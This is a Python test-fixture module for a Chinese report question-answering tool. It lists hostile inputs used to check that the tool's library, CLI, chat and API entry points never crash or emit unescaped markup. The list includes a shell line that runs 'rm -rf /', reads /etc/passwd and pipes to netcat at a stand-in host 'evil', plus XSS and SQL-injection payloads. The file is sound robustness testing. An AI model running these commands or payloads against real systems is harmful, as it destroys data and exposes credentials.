"""Hostile questions (issue 8): every way in — library, CLI, chat, API — is tried with each of them
(tests/test_answer.py, test_cli.py, test_chat.py, test_app.py); the outcome is an answer, an abstention
or (for empty input) nothing, never an unexpected exception or unescaped markup."""

from __future__ import annotations

import re

import qa

_PADDING = "大场镇2022年引进了多少家企业？"
HOSTILE = {
    "empty": "",
    "whitespace": " \t\n\u3000\r\n ",
    "100k_chars": (_PADDING * (100_000 // len(_PADDING) + 1))[:100_000],
    "control": "\x00\x01\x07\x1b[31m大场镇\x7f\u200b\u202e2022年\x1b[0m引进企业\x08\x0c",
    "emoji": "😀🎉🇨🇳 大场镇2022年引进了多少家企业？👍🏽👨‍👩‍👧",
    "html_js": '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:x">高境镇</a>财政收入？',
    "sql": "'; DROP TABLE reports; -- \" OR 1=1 UNION SELECT * FROM users /*",
    "shell": "$(rm -rf /) `cat /etc/passwd` | nc evil 1 && echo ${HOME}; ../../etc/passwd %s %n {0}",
    "punctuation": "？！。，、；：“”‘’（）《》…—!?.,;:'\"()[]{}<>/\\|~`@#$%^&*-_=+",
    "mixed_scripts": "Gaojing镇2023年 фискальный доход 財政收入 지방세 مرحبا שלום ทดสอบ",
    "leading_dash": "--help -rf",
    "lone_surrogates": "\ud800大场镇\udcff2022年",
}
ABSTENTION = "报告中没有找到"


def check_answer(answer: qa.Answer, question: str) -> None:
    assert isinstance(answer, qa.Answer)
    assert isinstance(answer.answer, str) and answer.answer
    if answer.status in ("answered", "partial"):
        assert re.search(r"\[\d+\]", answer.answer) and answer.hits
    if answer.status == "partial":
        assert "没有给出" in answer.answer and answer.missing
    if answer.status == "not_covered":
        assert ABSTENTION in answer.answer or "已收录的报告" in answer.answer or "请说明" in answer.answer
